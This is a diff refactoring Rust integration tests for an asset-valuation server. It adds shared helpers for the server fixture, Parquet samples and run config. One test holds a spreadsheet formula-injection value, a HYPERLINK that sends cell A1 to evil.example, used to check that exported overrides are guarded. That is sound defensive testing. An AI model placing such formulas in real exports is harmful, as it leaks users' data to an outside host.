@@ -94,13 +94,12 @@ fn read_error(path: &Path) -> String {
     }
 }
 
-/// The sample's first rows as Parquet with an extra column `asset_ie`, then renamed to
-/// `asset_id` in the file's bytes (polars cannot write two columns of one name; a Parquet
-/// footer holds names as plain text of their own length, so the patch keeps the file valid).
-fn parquet_with_repeated_asset_id(path: &Path) {
+/// The sample's first three rows, with an extra text column `extra` of `x`s, as Parquet bytes;
+/// `change` is applied to the frame first.
+fn sample_parquet(extra: &str, change: impl FnOnce(&mut polars::prelude::DataFrame)) -> Vec<u8> {
     use polars::prelude::*;
     let csv = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
-    std::fs::write(csv.path(), sample_with_column(5, "asset_ie", "X")).unwrap();
+    std::fs::write(csv.path(), sample_with_column(3, extra, "x")).unwrap();
     let mut df = CsvReadOptions::default()
         .with_has_header(true)
         .with_infer_schema_length(Some(0))
@@ -108,8 +107,17 @@ fn parquet_with_repeated_asset_id(path: &Path) {
         .unwrap()
         .finish()
         .unwrap();
+    change(&mut df);
     let mut bytes = vec![];
     ParquetWriter::new(&mut bytes).finish(&mut df).unwrap();
+    bytes
+}
+
+/// The sample's first rows as Parquet with an extra column `asset_ie`, then renamed to
+/// `asset_id` in the file's bytes (polars cannot write two columns of one name; a Parquet
+/// footer holds names as plain text of their own length, so the patch keeps the file valid).
+fn parquet_with_repeated_asset_id(path: &Path) {
+    let mut bytes = sample_parquet("asset_ie", |_| {});
     let (from, to) = (b"asset_ie", b"asset_id");
     let mut patched = 0;
     for i in 0..bytes.len() - from.len() {
@@ -391,6 +399,16 @@ fn an_error_answer_quotes_a_bounded_part_of_the_input() {
     );
 }
 
+/// A server on a fresh data folder: (the folder's parent, the data folder, the server, the
+/// `asset_id` its queue lists first).
+fn workbench() -> (tempfile::TempDir, std::path::PathBuf, Server, String) {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let s = Server::start(&data, &[]);
+    let id = s.first_asset_id();
+    (dir, data, s, id)
+}
+
 /// The server's log lines, parsed.
 fn log_entries(data: &Path) -> Vec<Value> {
     std::fs::read_to_string(data.join("audit.jsonl"))
@@ -405,10 +423,7 @@ fn log_entries(data: &Path) -> Vec<Value> {
 /// API and in `ipval value --overrides` alike (one rule: the overrides reader's).
 #[test]
 fn key_columns_cannot_be_overridden_anywhere() {
-    let dir = tempfile::tempdir().unwrap();
-    let data = dir.path().join("data");
-    let s = Server::start(&data, &[]);
-    let id = s.first_asset_id();
+    let (dir, data, s, id) = workbench();
     let before = s.get_json("/v1/assets").as_array().unwrap().len();
     for field in ["owner", "asset_id"] {
         let r = s.post_json(
@@ -453,10 +468,7 @@ fn key_columns_cannot_be_overridden_anywhere() {
 /// values.
 #[test]
 fn the_exported_overrides_are_guarded_and_read_back_exactly() {
-    let dir = tempfile::tempdir().unwrap();
-    let data = dir.path().join("data");
-    let s = Server::start(&data, &[]);
-    let id = s.first_asset_id();
+    let (dir, data, s, id) = workbench();
     let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
     let reason = "'+already quoted";
     let r = s.post_json(
@@ -604,10 +616,7 @@ fn a_second_run_into_the_same_folder_is_refused() {
 /// named by its line, not by a row of an internal table.
 #[test]
 fn a_damaged_log_is_named_by_its_line_at_start_and_by_verify() {
-    let dir = tempfile::tempdir().unwrap();
-    let data = dir.path().join("data");
-    let s = Server::start(&data, &[]);
-    let id = s.first_asset_id();
+    let (_dir, data, s, id) = workbench();
     for (field, value) in [("royalty_rate", "0.02"), ("discount_rate", "0.12")] {
         let r = s.post_json(
             &format!("/v1/assets/{id}/overrides"),
@@ -670,19 +679,7 @@ fn a_change_past_its_deadline_is_neither_applied_nor_logged() {
     let m = market::read(Path::new(MARKET)).unwrap();
     let p = portfolio::read(Path::new(SAMPLE), &m, as_of()).unwrap();
     let models = ipval::params::ModelSet::embedded().unwrap();
-    let cfg = ipval::config::RunConfig {
-        as_of: as_of(),
-        draws: 0,
-        seed: 1,
-        currency: "USD".into(),
-        threads: None,
-        format: ipval::config::Format::Csv,
-        out_dir: dir.path().join("out"),
-        strict: false,
-        plots: false,
-        progress: false,
-        command_line: vec![],
-    };
+    let cfg = ipval::config::RunConfig::in_memory(as_of(), 0, 1);
     let (mut w, _) = Workbench::open(cfg, m, models, p, dir.path()).unwrap();
     let id = w.assets()[0].asset.asset_id.clone();
     let req = || OverrideRequest {
@@ -734,23 +731,6 @@ fn a_slow_header_client_is_closed_by_the_server() {
     assert!(closed, "the slow connection was not closed by the server");
 }
 
-/// The sample's first rows as Parquet, with `change` applied to the frame first.
-fn sample_parquet(path: &Path, change: impl FnOnce(&mut polars::prelude::DataFrame)) {
-    use polars::prelude::*;
-    let csv = tempfile::NamedTempFile::with_suffix(".csv").unwrap();
-    std::fs::write(csv.path(), sample_with_column(3, "note", "x")).unwrap();
-    let mut df = CsvReadOptions::default()
-        .with_has_header(true)
-        .with_infer_schema_length(Some(0))
-        .try_into_reader_with_file_path(Some(csv.path().to_path_buf()))
-        .unwrap()
-        .finish()
-        .unwrap();
-    change(&mut df);
-    let file = std::fs::File::create(path).unwrap();
-    ParquetWriter::new(file).finish(&mut df).unwrap();
-}
-
 /// Row 10: a Parquet list column failed with "cannot cast List type (inner: 'Int64', to:
 /// 'String')" and a time-zone-aware timestamp with "cannot format timezone-naive Datetime",
 /// neither naming the column. A column of a type the reader cannot take as text is refused
@@ -761,7 +741,7 @@ fn parquet_columns_of_unreadable_types_are_named() {
     use polars::prelude::*;
     let dir = tempfile::tempdir().unwrap();
     let list = dir.path().join("list.parquet");
-    sample_parquet(&list, |df| {
+    let bytes = sample_parquet("note", |df| {
         let mut b = ListPrimitiveChunkedBuilder::<Int64Type>::new(
             "note".into(),
             df.height(),
@@ -773,6 +753,7 @@ fn parquet_columns_of_unreadable_types_are_named() {
         }
         df.with_column(b.finish().into_column()).unwrap();
     });
+    std::fs::write(&list, bytes).unwrap();
     let e = read_error(&list);
     assert!(
         e.contains("list.parquet") && e.contains("column `note`"),
@@ -797,7 +778,7 @@ fn parquet_columns_of_unreadable_types_are_named() {
         ("singapore", singapore),
     ] {
         let p = dir.path().join(format!("{name}.parquet"));
-        sample_parquet(&p, when(tz));
+        std::fs::write(&p, sample_parquet("note", when(tz))).unwrap();
         let read = portfolio::read(&p, &m, as_of()).map_err(|e| e.to_string());
         let read = read.unwrap_or_else(|e| panic!("{name}: {e}"));
         assert_eq!(read.rejected, vec![], "{name}");
@@ -815,10 +796,7 @@ fn parquet_columns_of_unreadable_types_are_named() {
 /// timing.
 #[test]
 fn a_burst_of_overrides_logs_exactly_the_ones_answered_2xx() {
-    let dir = tempfile::tempdir().unwrap();
-    let data = dir.path().join("data");
-    let s = Server::start(&data, &[]);
-    let id = s.first_asset_id();
+    let (_dir, data, s, id) = workbench();
     let statuses: Vec<(usize, u16, String)> = std::thread::scope(|scope| {
         let handles: Vec<_> = (0..80)
             .map(|i| {
